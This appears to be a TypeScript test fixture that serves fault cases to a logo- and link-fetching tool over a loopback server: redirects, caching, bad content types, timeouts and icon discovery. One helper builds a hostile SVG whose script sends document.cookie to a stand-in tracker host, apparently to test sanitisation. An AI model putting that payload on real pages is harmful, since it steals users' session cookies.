/**
 * The fault matrix for data:fetch: routes for the loopback HTTPS fixture server, and a data folder
 * whose sheets point at them. Every host is a `.test` name (or a login-wall host) that the tests
 * map to 127.0.0.1; the images are drawn by sharp here, not real logos.
 */
import { cpSync, mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import sharp from 'sharp';
import type { Handler } from './https-fixture-server';

export interface FixtureImages {
  png: Buffer;
  png2: Buffer;
  jpeg: Buffer;
  webp: Buffer;
  touch180: Buffer;
  touch120: Buffer;
  jsonLdLogo: Buffer;
  ogImage: Buffer;
}

const square = (size: number, color: string) => sharp({ create: { width: size, height: size, channels: 4, background: color } });

export async function makeFixtureImages(): Promise<FixtureImages> {
  return {
    png: await square(64, '#166534').png().toBuffer(),
    png2: await square(48, '#1d4ed8').png().toBuffer(),
    jpeg: await square(80, '#b91c1c').jpeg().toBuffer(),
    webp: await square(96, '#a16207').webp().toBuffer(),
    touch180: await square(180, '#0f766e').png().toBuffer(),
    touch120: await square(120, '#7c3aed').png().toBuffer(),
    jsonLdLogo: await square(200, '#be185d').png().toBuffer(),
    ogImage: await sharp({ create: { width: 300, height: 157, channels: 3, background: '#334155' } })
      .jpeg()
      .toBuffer(),
  };
}

/** An SVG that would run a script and call home if it were served as supplied. */
export const hostileSvg = (trackerUrl: string) =>
  `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20" onload="alert(1)">` +
  `<script>fetch('${trackerUrl}?cookie='+document.cookie)</script>` +
  `<image xlink:href="${trackerUrl}" width="40" height="20"/>` +
  `<rect width="40" height="20" fill="#166534"/></svg>`;

const send =
  (status: number, body: Buffer | string, headers: Record<string, string> = {}): Handler =>
  (_request, response) => {
    response.writeHead(status, headers);
    response.end(body);
  };
/** Answers 304 when the client presents the ETag it was given. */
const cacheable =
  (body: Buffer, etag: string, type: string): Handler =>
  (request, response) => {
    if (request.headers['if-none-match'] === etag) return void response.writeHead(304, { etag }).end();
    response.writeHead(200, { etag, 'content-type': type });
    response.end(request.method === 'HEAD' ? undefined : body);
  };
const byLastModified =
  (body: Buffer, lastModified: string, type: string): Handler =>
  (request, response) => {
    if (request.headers['if-modified-since'] === lastModified) return void response.writeHead(304, { 'last-modified': lastModified }).end();
    response.writeHead(200, { 'last-modified': lastModified, 'content-type': type });
    response.end(body);
  };
const redirect =
  (status: number, location: (port: string) => string): Handler =>
  (request, response) => {
    response.writeHead(status, { location: location(request.headers.host?.split(':')[1] ?? '') });
    response.end();
  };
const page = (head: string) => `<!doctype html><html><head><title>Fixture</title>${head}</head><body><p>A fixture page.</p></body></html>`;
const html = (head: string): Handler => send(200, page(head), { 'content-type': 'text/html; charset=utf-8' });

/** Routes for every case of the fault matrix. `plainPort` is an http:// server for the downgrade case. */
export function faultMatrixRoutes(images: FixtureImages, plainPort: () => number): Record<string, Handler> {
  const hits = new Map<string, number>();
  const nth = (key: string) => {
    const count = (hits.get(key) ?? 0) + 1;
    hits.set(key, count);
    return count;
  };
  const truncated = images.png.subarray(0, Math.floor(images.png.length / 2));
  return {
    // images
    '/logo.png': cacheable(images.png, '"png-1"', 'image/png'),
    '/logo.jpg': byLastModified(images.jpeg, 'Tue, 03 Nov 2026 10:00:00 GMT', 'image/jpeg'),
    '/logo.webp': cacheable(images.webp, '"webp-1"', 'image/webp'),
    // Named .png, served as image/png, but a WebP: the bytes decide.
    '/disguised.png': send(200, images.webp, { 'content-type': 'image/png' }),
    '/logo.svg': (request, response) => {
      const port = request.headers.host?.split(':')[1] ?? '';
      response.writeHead(200, { 'content-type': 'image/svg+xml' });
      response.end(hostileSvg(`https://cdn.test:${port}/tracker.png`));
    },
    '/tracker.png': send(200, images.png2, { 'content-type': 'image/png' }),
    '/gone-404.png': send(404, 'Not Found', { 'content-type': 'text/plain' }),
    '/gone-410.png': send(410, 'Gone', { 'content-type': 'text/plain' }),
    '/flaky.png': (request, response) => (nth('flaky') === 1 ? send(500, 'Internal Server Error') : cacheable(images.png2, '"png2"', 'image/png'))(request, response),
    '/busy.png': (request, response) =>
      (nth('busy') === 1 ? send(429, 'slow down', { 'retry-after': '1' }) : send(200, images.jpeg, { 'content-type': 'image/jpeg' }))(request, response),
    '/chain-1.png': redirect(301, (port) => `https://cdn.test:${port}/chain-2.png`),
    '/chain-2.png': redirect(302, () => '/chain-3.png'),
    '/chain-3.png': redirect(307, () => '/logo.webp'),
    '/loop-a.png': redirect(302, () => '/loop-b.png'),
    '/loop-b.png': redirect(302, () => '/loop-a.png'),
    '/to-http.png': redirect(301, () => `http://fixture.test:${plainPort()}/logo.png`),
    '/slow.png': (_request, response) => {
      const timer = setTimeout(() => send(200, images.png, { 'content-type': 'image/png' })(_request, response), 2500);
      response.on('close', () => clearTimeout(timer));
    },
    '/page-as.png': send(200, page(''), { 'content-type': 'image/png' }),
    '/truncated.png': send(200, truncated, { 'content-type': 'image/png' }),
    '/huge.png': (_request, response) => {
      response.writeHead(200, { 'content-type': 'image/png' });
      response.write(images.png);
      for (let index = 0; index < 6; index++) response.write(Buffer.alloc(1024 * 1024));
      response.end();
    },
    '/gzipped.png': send(200, gzipSync(images.touch120), { 'content-type': 'image/png', 'content-encoding': 'gzip' }),
    // links
    '/shop-page': html(''),
    '/page-404': send(404, page('')),
    '/page-410': send(410, page('')),
    '/old-page': redirect(301, (port) => `https://moved.test:${port}/new-home`),
    '/new-home': html(''),
    '/temporary': redirect(302, () => '/shop-page'),
    '/no-head': (request, response) => (request.method === 'HEAD' ? send(405, '') : html(''))(request, response),
    '/slow-page': (_request, response) => {
      const timer = setTimeout(() => html('')(_request, response), 2500);
      response.on('close', () => clearTimeout(timer));
    },
    // A social network's answer to an anonymous client: a redirect to its login form.
    '/padyak.example.page': redirect(302, () => '/login/?next=%2Fpadyak.example.page'),
    '/login/': html(''),
    // discovery
    '/with-json-ld': html(
      `<script type="application/ld+json">{"@context":"https://schema.org","@type":"Organization","name":"Fixture","logo":{"@type":"ImageObject","url":"/brand-mark.png"}}</script>` +
        `<link rel="apple-touch-icon" sizes="180x180" href="/touch-180.png"><meta property="og:image" content="/og.jpg">`,
    ),
    '/with-touch-icon': (request, response) =>
      html(
        `<link rel="icon" sizes="32x32" href="/favicon-32.png"><link rel="apple-touch-icon" sizes="120x120" href="/touch-120.png">` +
          `<link rel="apple-touch-icon" sizes="180x180" href="https://cdn.test:${request.headers.host?.split(':')[1] ?? ''}/touch-180.png">`,
      )(request, response),
    '/with-og-image': html(`<meta property="og:image" content="/og.jpg"><link rel="icon" href="/favicon.ico">`),
    '/brand-mark.png': send(200, images.jsonLdLogo, { 'content-type': 'image/png' }),
    '/touch-180.png': send(200, images.touch180, { 'content-type': 'image/png' }),
    '/touch-120.png': send(200, images.touch120, { 'content-type': 'image/png' }),
    '/og.jpg': send(200, images.ogImage, { 'content-type': 'image/jpeg' }),
  };
}

/** Copies the clean fixture data into a temporary folder and returns it. */
export function copyCleanData(): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'padyak-fetch-data-'));
  cpSync(path.join(__dirname, '..', 'fixtures', 'clean'), dir, { recursive: true });
  return dir;
}

export function writeSheet(dataDir: string, file: string, text: string): void {
  writeFileSync(path.join(dataDir, file), text);
}
